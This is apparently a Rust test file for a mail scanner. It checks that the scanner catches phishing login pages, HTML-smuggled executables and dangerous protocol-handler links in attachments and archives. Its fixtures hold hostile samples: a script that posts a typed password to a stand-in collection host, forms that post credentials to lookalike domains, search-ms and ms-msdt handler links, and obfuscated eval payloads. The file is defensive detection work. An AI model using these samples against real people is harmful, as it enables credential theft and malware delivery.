//! Web pages and SVG images (issue 32, "what a page makes the reader do"):
//! the judgements that need more than the golden corpus shows — the
//! organisation's own domains, where a page can sit (an archive entry, an
//! attached message, not the message's own body), the files a page builds
//! walked as children, HTML under an `.xls` name.

#[path = "../examples/samples/mod.rs"]
mod samples;

use base64::Engine as _;
use ecluse_scanner::{Action, Category, Engine, FindingKind, Limits, Report, scan, scan_file};
use samples::*;

fn categories(r: &Report) -> Vec<Category> {
    r.categories.clone()
}

fn login_posting_to(action: &str) -> String {
    format!(
        "<!DOCTYPE html><html><body><h2>Intranet</h2><form method=\"post\" action=\"{action}\">\
         <input name=\"login\"><input type=\"password\" name=\"mdp\"><button>Entrer</button></form></body></html>"
    )
}

fn page_mail(from: &str, page: &str) -> Vec<u8> {
    let eml = with_attachment("Connexion", "text/html", "Connexion.html", page.as_bytes());
    // The samples' sender, replaced: the page's judgement must not depend on it.
    eml.replacen(
        "From: =?utf-8?q?Mairie_de_Saint-=C3=89tienne?= <mairie@ville-exemple.fr>",
        &format!("From: <{from}>"),
        1,
    )
    .into_bytes()
}

#[test]
fn a_password_form_posting_to_our_domains_or_a_partners_is_ordinary() {
    let ours = Engine::builtin().with_own_domains(&["ville-exemple.fr", "Agglo-Exemple.fr."]);
    let limits = Limits::default();
    for action in [
        "https://intranet.ville-exemple.fr/login",
        "https://ville-exemple.fr/login",
        "https://sso.agglo-exemple.fr/auth",
    ] {
        let r = scan(
            &ours,
            &limits,
            &page_mail("dsi@ville-exemple.fr", &login_posting_to(action)),
        );
        assert_eq!(r.action, Action::Deliver, "{action}: {:?}", categories(&r));
    }
    // A relative action under a <base href> of ours is ours too.
    let based = login_posting_to("/login").replace(
        "<body>",
        "<head><base href=\"https://intranet.ville-exemple.fr/\"></head><body>",
    );
    assert_eq!(
        scan(&ours, &limits, &page_mail("dsi@ville-exemple.fr", &based)).action,
        Action::Deliver
    );
    // Without the list, every host is outside.
    let r = scan(
        &Engine::builtin(),
        &limits,
        &page_mail(
            "dsi@ville-exemple.fr",
            &login_posting_to("https://intranet.ville-exemple.fr/login"),
        ),
    );
    assert_eq!(categories(&r), [Category::PhishingPage]);
}

#[test]
fn the_senders_own_domain_is_never_trusted() {
    let ours = Engine::builtin().with_own_domains(&["ville-exemple.fr"]);
    let limits = Limits::default();
    for (from, action) in [
        (
            "support@portail-exemple.example",
            "https://portail-exemple.example/login",
        ),
        (
            "mairie@ville-exemple.fr",
            "https://ville-exemple.fr.portail-exemple.example/login",
        ),
        (
            "mairie@ville-exemple.fr",
            "https://evilville-exemple.fr/login",
        ),
    ] {
        let r = scan(&ours, &limits, &page_mail(from, &login_posting_to(action)));
        assert_eq!(
            categories(&r),
            [Category::PhishingPage],
            "{from} → {action}"
        );
        let f = r
            .all_findings()
            .find(|(_, f)| f.kind == FindingKind::CredentialForm)
            .unwrap()
            .1;
        assert!(
            f.fr()
                .unwrap()
                .starts_with("la page demande un mot de passe et l'envoie à "),
            "{:?}",
            f.fr()
        );
    }
}

#[test]
fn a_password_field_a_script_takes_is_held() {
    let limits = Limits::default();
    let engine = Engine::builtin().with_own_domains(&["ville-exemple.fr"]);
    let page = "<html><body><input type=password id=p><button onclick=\"envoyer()\">OK</button><script>function envoyer(){ fetch('https://collecte.example.invalid/p', {method: 'POST', body: document.getElementById('p').value}); }</script></body></html>";
    let r = scan(&engine, &limits, &page_mail("a@b.example", page));
    assert_eq!(categories(&r), [Category::PhishingPage]);
    assert!(
        r.all_findings()
            .any(|(_, f)| f.en().contains("collecte.example.invalid"))
    );
    // No script, no address: what is typed goes nowhere.
    let inert = "<html><body><form><input type=password></form></body></html>";
    assert_eq!(
        scan(&engine, &limits, &page_mail("a@b.example", inert)).action,
        Action::Deliver
    );
}

#[test]
fn a_page_is_judged_wherever_it_sits_but_in_the_message_body() {
    let engine = Engine::builtin();
    let limits = Limits::default();
    let handler = "<html><body><a href=\"search-ms:query=x&amp;crumb=location:\\\\203.0.113.9@SSL\\DavWWWRoot\\p\">Ouvrir</a></body></html>";
    // An archive entry.
    let z = zip(&[("documents/Ouvrir.htm", handler.as_bytes())]);
    let r = scan(
        &engine,
        &limits,
        with_attachment("Dossier", "application/zip", "Dossier.zip", &z).as_bytes(),
    );
    assert_eq!(categories(&r), [Category::ExternalContent]);
    let (path, _) = r
        .all_findings()
        .find(|(_, f)| f.kind == FindingKind::ExternalContent)
        .unwrap();
    assert_eq!(path, "2/documents/Ouvrir.htm");
    // The attachment of an attached message.
    let inner = with_attachment(
        "Relevé",
        "text/html",
        "Releve.html",
        login_posting_to("https://releve.example.invalid/").as_bytes(),
    );
    let outer = message(
        "Tr: Relevé",
        &multipart(
            "mixed",
            "outer",
            &[
                text_part("Voir le message joint."),
                format!("Content-Type: message/rfc822\r\n\r\n{inner}"),
            ],
        ),
    );
    assert_eq!(
        categories(&scan(&engine, &limits, outer.as_bytes())),
        [Category::PhishingPage]
    );
    // The message's own HTML body: mail clients show it without running
    // scripts or following a handler by themselves; it is not a page here.
    let body = message(
        "Lettre",
        &format!(
            "Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n{handler}\r\n"
        ),
    );
    assert_eq!(
        scan(&engine, &limits, body.as_bytes()).action,
        Action::Deliver
    );
}

#[test]
fn what_a_page_builds_is_walked_as_a_file() {
    let engine = Engine::builtin();
    let limits = Limits::default();
    // A program in a data: link with a download name.
    let b64 = base64::engine::general_purpose::STANDARD.encode(pe());
    let page = format!(
        "<html><body><a download=\"Facture.exe\" href=\"data:application/octet-stream;base64,{b64}\">Télécharger</a></body></html>"
    );
    let part = scan_file(&engine, &limits, Some("Facture.html"), page.as_bytes());
    let cats: Vec<Category> = part
        .walk()
        .iter()
        .flat_map(|p| p.findings.iter().map(|f| f.category))
        .collect();
    assert!(cats.contains(&Category::HtmlSmuggling), "{cats:?}");
    let child = &part.children[0];
    assert_eq!(child.filename.as_deref(), Some("Facture.exe"));
    assert_eq!(
        child.detected_type,
        "application/vnd.microsoft.portable-executable"
    );
    assert!(
        child
            .findings
            .iter()
            .any(|f| f.kind == FindingKind::ExecutableContent)
    );
    // The same bytes from the page's own text, as an ordinary CSV, are no smuggling.
    let csv = "<html><body><a download=\"export.csv\" href=\"data:text/csv;charset=utf-8,%EF%BB%BFNom%3BClasse%0AMartin%3BCE2\">CSV</a></body></html>";
    let part = scan_file(&engine, &limits, Some("Export.html"), csv.as_bytes());
    assert_eq!(part.action, Action::Deliver, "{:?}", part.findings);
}

#[test]
fn html_under_an_xls_name_is_a_page_not_a_mismatch() {
    let engine = Engine::builtin();
    let limits = Limits::default();
    let table = "<html xmlns:x=\"urn:schemas-microsoft-com:office:excel\"><body><table><tr><td>1</td></tr></table></body></html>";
    let part = scan_file(&engine, &limits, Some("Export.xls"), table.as_bytes());
    assert_eq!(part.action, Action::Deliver, "{:?}", part.findings);
    let with_form = table.replace(
        "</table>",
        "</table><form action=\"https://x.example.invalid/\"><input type=password></form>",
    );
    let part = scan_file(&engine, &limits, Some("Export.xls"), with_form.as_bytes());
    let kinds: Vec<FindingKind> = part.findings.iter().map(|f| f.kind).collect();
    assert_eq!(kinds, [FindingKind::CredentialForm]);
    // Text under a page's name is read as a page too.
    let part = scan_file(
        &engine,
        &limits,
        Some("lien.htm"),
        b"Cliquez ici : <a href=\"ms-msdt:/id PCWDiagnostic\">diagnostic</a>",
    );
    assert!(
        part.findings
            .iter()
            .any(|f| f.kind == FindingKind::ExternalContent),
        "{:?}",
        part.findings
    );
}

#[test]
fn hostile_pages_never_panic() {
    let engine = Engine::builtin();
    let limits = Limits::default();
    for page in [
        &b"<svg><foreignObject><![CDATA["[..],
        b"<script>document.write(atob(",
        b"<script>eval(eval(eval(eval(atob('ZXZhbChhdG9iKCdaWFpoYkNoaGRHOWlLQ2RhV0ZwaFlrTm9hR1JIT1dsTFEyUmhWMFp3YUZscmJIaGFNamxwVEZVVlQwKScpKQ==')))))</script>",
        b"<iframe srcdoc=\"<iframe srcdoc='<iframe srcdoc=&quot;<form><input type=password>&quot;>'>\"></iframe><script>x</script>",
        b"<meta http-equiv=refresh content=\"0;url=\">",
        b"<a href=\"\\\\\">x</a><a href=\"//\">y</a><form action=\"mailto:\"><input type=password></form>",
        b"\xff\xfe<\x00h\x00t\x00m\x00l\x00>\x00",
        b"<html><body>\xc3\x28\xa0\xa1<script>'\xe2\x82'</script>",
    ] {
        let _ = scan_file(&engine, &limits, Some("page.html"), page);
        let _ = scan_file(&engine, &limits, Some("image.svg"), page);
    }
}
